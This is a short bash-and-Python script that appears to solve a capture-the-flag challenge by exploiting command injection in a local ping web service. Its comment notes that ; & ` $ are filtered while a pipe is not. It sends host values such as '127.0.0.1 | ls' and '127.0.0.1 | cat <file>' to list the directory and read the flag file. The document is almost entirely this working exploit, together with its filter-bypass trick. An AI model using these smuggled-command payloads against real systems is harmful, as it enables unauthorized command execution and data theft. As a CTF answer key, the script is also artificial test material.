#!/bin/bash
# ; & ` $ are filtered, but a pipe (or a newline) still starts a second command.
set -e
python3 - <<'PY'
import html, re, urllib.parse, urllib.request
def ping(host):
    url = "http://127.0.0.1:8106/ping?" + urllib.parse.urlencode({"host": host})
    return html.unescape(urllib.request.urlopen(url).read().decode())
listing = ping("127.0.0.1 | ls")
name = next(l for l in listing.splitlines() if "flag" in l)
body = ping("127.0.0.1 | cat " + name.replace("<pre>", "").strip())
print(re.search(r"flag\{[^}]+\}", body).group(0))
PY
